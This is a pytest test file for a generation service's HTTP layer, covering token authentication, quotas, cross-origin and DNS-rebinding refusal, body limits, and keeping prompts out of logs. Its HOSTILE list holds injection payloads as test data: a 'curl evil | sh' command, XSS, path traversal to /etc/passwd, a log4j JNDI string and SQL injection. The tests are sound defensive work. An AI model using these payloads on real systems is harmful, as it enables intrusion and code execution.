"""Tokens, quotas, other sites, slow and large bodies; prompts stay out of the logs."""

from __future__ import annotations

import asyncio
import hashlib
import json
import logging
import os
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from amortized.serve import access
from amortized.serve.access import Quota, Tokens, check_local, is_loopback, read_tokens
from amortized.serve.app import Settings
from amortized.serve.logs import JsonLines
from amortized.serve.problems import Problem
from amortized.serve.server import ServiceConfig, check_exposure
from tests.serve.fakes import HOST, Client, FakeEngine, service

ALICE, BOB = "alice-0123456789abcdef", "bob-0123456789abcdef"


@pytest.fixture
def tokens(tmp_path: Path) -> Path:
    path = tmp_path / "tokens.txt"
    digest = hashlib.sha256(BOB.encode()).hexdigest()
    path.write_text(f"# a comment\nalice {ALICE}\n\nbob sha256:{digest}\n")
    return path


def bearer(token: str) -> dict[str, str]:
    return {"authorization": f"Bearer {token}"}


def test_only_valid_tokens_get_in(tmp_path: Path, tokens: Path) -> None:
    wrong = [
        {},
        bearer(""),
        bearer(ALICE[:-1]),
        bearer(ALICE + "x"),
        bearer(ALICE.upper()),
        bearer("sha256:" + hashlib.sha256(BOB.encode()).hexdigest()),
        bearer("alice"),
        bearer("é\xff"),
        {"authorization": ALICE},
        {"authorization": f"Basic {ALICE}"},
        {"cookie": f"token={ALICE}"},
    ]

    async def scenario() -> None:
        async with service(tmp_path / "store", tokens=tokens) as it:
            for headers in wrong:
                for method, path in (("POST", "/v1/objects"), ("GET", "/v1/models"), ("GET", "/metrics")):
                    answer = await it.client(method, path, {"prompt": "a cube"}, headers=headers)
                    assert answer.status == 401 and answer.headers["www-authenticate"] == "Bearer"
                    assert ALICE not in answer.body.decode() and answer.json["code"] == "unauthorized"
                assert (await it.client("GET", "/healthz", headers=headers)).status == 200
            assert not it.engine.calls and not it.jobs.active
            for token in (ALICE, BOB):  # any host: a proxy's
                headers = bearer(token) | {"host": "example.org"}
                request = {"prompt": "a cube", "wait": 5}
                made = await it.client("POST", "/v1/objects", request, headers=headers)
                assert made.status == 200
            assert it.engine.calls == [["a cube"]]
            # Each drops its own claim; the last one removes the object.
            url = made.json["url"]
            assert (await it.client("DELETE", url, headers=bearer(ALICE))).status == 204
            assert (await it.client("DELETE", url, headers=bearer(ALICE))).json["code"] == "not_yours"
            assert (await it.client("GET", url, headers=bearer(BOB))).status == 200
            assert (await it.client("DELETE", url, headers=bearer(BOB))).status == 204
            assert (await it.client("GET", url, headers=bearer(BOB))).status == 404

    asyncio.run(scenario())


def test_a_token_that_leaves_the_file_is_refused(tokens: Path, monkeypatch) -> None:
    monkeypatch.setattr(access, "RELOAD_S", 0.0)
    known = Tokens(tokens)
    assert known.owner(f"Bearer {ALICE}") == "alice" and known.owner(f"bearer {BOB}") == "bob"
    tokens.write_text(f"carol {BOB}\n")
    assert known.owner(f"Bearer {BOB}") == "carol"
    with pytest.raises(Problem):
        known.owner(f"Bearer {ALICE}")
    tokens.write_text("broken")  # in the middle of an edit: the last tokens stay
    assert known.owner(f"Bearer {BOB}") == "carol"


@pytest.mark.parametrize(
    "text", ["", "# none", "alice", "alice short", "a b c", f"../x {ALICE}", "bob sha256:00", "\xff"]
)
def test_a_wrong_token_file_is_one_sentence_without_the_token(tmp_path: Path, text: str) -> None:
    path = tmp_path / "tokens.txt"
    path.write_bytes(text.encode("latin-1"))
    with pytest.raises(ValueError) as error:
        read_tokens(path)
    assert "tokens.txt" in str(error.value) and "\n" not in str(error.value)
    assert ALICE not in str(error.value) and "short" not in str(error.value)


def test_quotas_are_of_a_token(tmp_path: Path, tokens: Path) -> None:
    quota = Quota(requests_per_minute=6, objects=2, asset_seconds_per_hour=0.2)

    async def scenario() -> None:
        engine = FakeEngine(seconds=0.3)
        async with service(tmp_path / "store", engine, tokens=tokens, quota=quota) as it:
            alice, bob = (Client(it.client.app, bearer(token)) for token in (ALICE, BOB))
            made = [(await alice.post(f"cube {number}")).status for number in range(3)]
            assert made == [202, 202, 429]
            assert (await bob.post("cone", wait=5)).status == 200
            assert (await alice.post("cube 0", n=3)).status == 429
            await asyncio.wait(
                [job.task for job in it.jobs.active.values()] or [asyncio.create_task(asyncio.sleep(0))]
            )
            statuses = [(await alice.post("slow 0.3", formats=["glb"], wait=20)).status]
            statuses.append((await alice.post("another", formats=["glb"])).status)  # its seconds are used up
            statuses.append((await alice.post("a preview", wait=5)).status)
            assert statuses == [200, 429, 200]
            refused = [await alice.post("cube 0") for _ in range(4)]
            assert [answer.status for answer in refused] == [200, 200, 429, 429]
            assert refused[-1].json["code"] == "too_many_requests"
            assert 0 < int(refused[-1].headers["retry-after"]) <= 60
            assert (await bob.post("cone")).status == 200

    asyncio.run(scenario())


@pytest.mark.parametrize(
    "host", [None, "", "a.example", "a.example:8000", "127.0.0.1:8001", "127.0.0.1.a:8000", "[::2]:8000"]
)
def test_other_names_of_this_machine_are_refused(host: str | None) -> None:
    """DNS rebinding: a page of a.example whose name leads to 127.0.0.1."""
    with pytest.raises(Problem):
        check_local(host, None, 8000)


@pytest.mark.parametrize("host", [HOST, "localhost:8000", "[::1]:8000"])
def test_pages_of_other_sites_are_refused(tmp_path: Path, host: str) -> None:
    async def scenario() -> None:
        async with service(tmp_path) as it:
            headers = {"host": host}
            assert (await it.client("GET", "/v1/models", headers=headers)).status == 200
            own = {"host": host, "origin": f"http://{host}"}
            assert (await it.client("GET", "/v1/models", headers=own)).status == 200
            for origin in ("https://evil.example", "null", "http://127.0.0.1:9", f"https://{host}"):
                answer = await it.client("GET", "/v1/models", headers=headers | {"origin": origin})
                assert answer.status == 403 and "access-control-allow-origin" not in answer.headers
            # What a page may send without permission is no JSON; OPTIONS gives none.
            for kind in ("text/plain", "application/x-www-form-urlencoded", ""):
                answer = await it.client(
                    "POST", "/v1/objects", {"prompt": "x"}, headers=headers | {"content-type": kind}
                )
                assert answer.status == 415
            options = await it.client("OPTIONS", "/v1/objects", headers=headers)
            assert options.status == 405 and not [one for one in options.headers if "control-allow" in one]

    asyncio.run(scenario())


LOOPBACK = ("127.0.0.1", "::1", "localhost")
PUBLIC = ("0.0.0.0", "::", "10.1.2.3", "example.org")


@pytest.mark.parametrize(("host", "loopback"), [(h, True) for h in LOOPBACK] + [(h, False) for h in PUBLIC])
def test_an_address_that_others_reach_needs_tokens(
    tmp_path: Path, tokens: Path, host: str, loopback: bool
) -> None:
    assert is_loopback(host) is loopback
    check_exposure(ServiceConfig(store=tmp_path, host=host, tokens=tokens))
    if loopback:
        check_exposure(ServiceConfig(store=tmp_path, host=host))
    else:
        with pytest.raises(ValueError, match="--token-file"):
            check_exposure(ServiceConfig(store=tmp_path, host=host))


def test_large_and_slow_bodies_end(tmp_path: Path) -> None:
    async def drip(size: int, wait_s: float) -> AsyncIterator[bytes]:
        while True:
            yield b" " * size
            await asyncio.sleep(wait_s)

    async def scenario() -> None:
        async with service(
            tmp_path, requests=Settings(body_bytes=1000, batch_body_bytes=3000, body_s=0.2)
        ) as it:
            for path, limit in (("/v1/objects", 1000), ("/v1/batches", 3000)):
                body = json.dumps({"prompt": "a cube"}).encode()
                fits = await it.client("POST", path, body=body + b" " * (limit - len(body)))
                assert fits.status in (202, 422)
                large = await it.client("POST", path, body=b" " * (limit + 1))
                endless = await it.client("POST", path, chunks=drip(100, 0))
                slow = await it.client("POST", path, chunks=drip(1, 0.05))
                assert [large.status, endless.status, slow.status] == [413, 413, 408]

    asyncio.run(scenario())


HOSTILE = [
    "<script>alert(1)</script>",
    '"; curl evil | sh #',
    "../../../etc/passwd",
    "%s %n {0} ${jndi:ldap://x}",
    "a cube\u202egnp.exe",
    "😀 café 立方体",
    "' OR 1=1 --",
    "x\\u0000y",
]


@pytest.mark.parametrize("wanted", [False, True])
def test_hostile_prompts_in_headers_files_and_logs(tmp_path: Path, caplog, wanted: bool) -> None:
    async def scenario() -> None:
        async with service(tmp_path / "store", requests=Settings(log_prompts=wanted)) as it:
            for prompt in HOSTILE:
                made = await it.client.post(prompt, wait=5)
                assert made.status == 200 and made.json["prompt"] == prompt
                assert prompt not in json.dumps(made.headers)
                file = await it.client("GET", made.json["files"]["preview.png"]["url"])
                assert (
                    file.headers["content-disposition"]
                    == f'attachment; filename="{made.json["id"][:16]}.png"'
                )
            await it.client.post("broken <script>", wait=5)

    caplog.set_level(logging.INFO, "amortized.serve")
    asyncio.run(scenario())
    names = {name for _, folders, files in os.walk(tmp_path / "store") for name in (*folders, *files)}
    assert names <= {"objects", "batches", "unfinished", "status.json", "preview.png", ".lock"} | {
        n for n in names if len(n) in (2, 64)
    }
    lines = [JsonLines().format(record) for record in caplog.records]
    assert all(line.isascii() and "\n" not in line and json.loads(line)["event"] for line in lines)
    logged = [json.loads(line).get("prompt") for line in lines if '"accepted"' in line]
    assert logged == ([*HOSTILE, "broken <script>"] if wanted else [None] * (len(HOSTILE) + 1))
    everything = "\n".join(lines)
    assert wanted or not [prompt for prompt in HOSTILE if json.dumps(prompt)[1:-1] in everything]


def test_a_prompt_can_be_refused(tmp_path: Path) -> None:
    refuse = Settings(refuse=lambda prompt: "no weapons here" if "sword" in prompt else None)

    async def scenario() -> None:
        async with service(tmp_path, requests=refuse) as it:
            for path, data in (
                ("/v1/objects", {"prompt": "a sword"}),
                ("/v1/batches", {"prompts": ["a cube", "a sword"]}),
            ):
                answer = await it.client("POST", path, data)
                assert answer.status == 422 and answer.json["detail"] == "no weapons here"
            assert not it.jobs.active and (await it.client.post("a cube", wait=5)).status == 200

    asyncio.run(scenario())
